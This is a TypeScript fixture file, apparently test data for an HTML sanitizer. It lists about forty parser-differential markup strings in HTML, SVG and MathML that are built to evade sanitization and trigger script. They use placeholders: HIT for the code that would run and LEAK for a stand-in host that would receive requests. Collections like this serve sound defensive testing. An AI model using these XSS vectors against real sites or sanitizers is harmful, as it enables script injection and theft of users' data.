/** Markup that two parsers read differently. */
export const parserConfusion: Record<string, string> = {
  'a title in MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=LEAK/y onerror=HIT&gt;">',
  'a form in a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>',
  'a noscript': '<noscript><p title="</noscript><img src=LEAK/x onerror=HIT>"></noscript>',
  'a textarea in SVG':
    '<svg></p><textarea><title><style></textarea><img src=LEAK/x onerror=HIT></style></title></svg>',
  'a comment that ends early': '<!--><img src=LEAK/x onerror=HIT>-->',
  'a comment that ends with a bang': '<!-- --!><img src=LEAK/x onerror=HIT> -->',
  'a CDATA section': '<svg><![CDATA[><img src=LEAK/x onerror=HIT>]]></svg>',
  'a style that ends early': '<style><img src="</style><img src=LEAK/x onerror=HIT//">',
  'an xmp': '<xmp><img title="</xmp><img src=LEAK/x onerror=HIT>"></xmp>',
  'a template': '<template><img src=LEAK/x onerror="HIT"></template>',
  'a shadow root': '<div><template shadowrootmode="open"><img src=LEAK/x onerror="HIT"></template></div>',
  'a select': '<select><template><img src=LEAK/x onerror=HIT></template></select>',
  'a frame set': '<frameset onload="HIT"><frame src="javascript:HIT"></frameset>',
  'a NUL in a name': '<scr\u0000ipt>HIT</scr\u0000ipt><img src=LEAK/x one\u0000rror=HIT>',
  'a tag that never ends': '<img src=LEAK/x onerror=HIT ',
  'a processing instruction': '<?xml-stylesheet href="javascript:HIT"?><img src=LEAK/x onerror="HIT">',
  'a style in MathML': '<math><style><img src=LEAK/m onerror=HIT></style></math>',
  'an annotation that is HTML':
    '<math><annotation-xml encoding="text/html"><img src=LEAK/an onerror=HIT></annotation-xml></math>',
  'an annotation with a style':
    '<math><annotation-xml encoding="text/html"><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;"></annotation-xml></math>',
  'a table in a table of another kind':
    '<table><svg><td><style><img title="</style><img src=LEAK/t onerror=HIT>"></td></svg></table>',
  'a description in SVG': '<svg><desc><style><img title="</style><img src=LEAK/d onerror=HIT>"></desc></svg>',
  'a malignmark':
    '<math><mi><malignmark><style><!--</style><a title="--&gt;&lt;img src onerror=HIT&gt;">x</a></malignmark></mi></math>',
  'a paragraph that MathML breaks': '<math></p><style><!--</style><img src/onerror=HIT>--></style></math>',
  'a heading in a heading': '<h1><svg><h2><style></h1><img src=LEAK/h onerror=HIT></style></h2></svg>',
  'a plaintext': '<plaintext><img src=LEAK/pl onerror=HIT></plaintext>',
  'a listing': '<listing>\n<img src=LEAK/ls onerror=HIT></listing>',
  'a noembed and a noframes':
    '<noembed><p title="</noembed><img src=x onerror=HIT>"></noembed><noframes><p title="</noframes><img src=x onerror=HIT>"></noframes>',
  'an iframe that hides markup': '<iframe><p title="</iframe><img src=LEAK/if onerror=HIT>"></iframe>',
  'a select with a foreign child':
    '<select><option><svg><style></option><img src=LEAK/so onerror=HIT></style></svg></select>',
  'an option with a style': '<select><style></select><img src=LEAK/os onerror=HIT></style></select>',
  'a template in a template':
    '<template><template><img src=LEAK/tt onerror=HIT></template></template><img src=LEAK/tt2 onerror=HIT>',
  'a template with a shadow root that clones':
    '<div><template shadowrootmode="closed" shadowrootclonable><slot></slot><script>HIT</script></template></div>',
  'a document in the middle':
    '<p>x</p><!doctype html><html onclick="HIT"><head><base href="LEAK/b/"></head><body onload="HIT">y</body></html>',
  'a CDATA section outside of SVG': '<![CDATA[<img src=LEAK/cd onerror=HIT>]]>',
  'a declaration': '<!ENTITY x "<img src=LEAK/en onerror=HIT>"><!ATTLIST a onclick CDATA "HIT">&x;',
  'a conditional comment':
    '<!--[if gte IE 4]><script>HIT</script><![endif]--><![if true]><img src=LEAK/cc onerror=HIT><![endif]>',
  'a name with a colon':
    '<svg:script xmlns:svg="http://www.w3.org/2000/svg">HIT</svg:script><x:img src=LEAK/ns onerror=HIT />',
  'a namespace of its own':
    '<x xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/2000/svg">HIT</script></x>',
  'half a character reference': '<a href="javascript&colonHIT">press</a><img src=x onerror=&#x20&#x09;HIT>',
  'a template language': '<p>{{constructor.constructor("HIT")()}}</p><p>${HIT}</p><p><%= HIT %></p>',
  'letters outside of every plane': '<p>\ud800<img src="LEAK/sur" alt="\udfff" onerror="HIT">\udc00</p>',
}
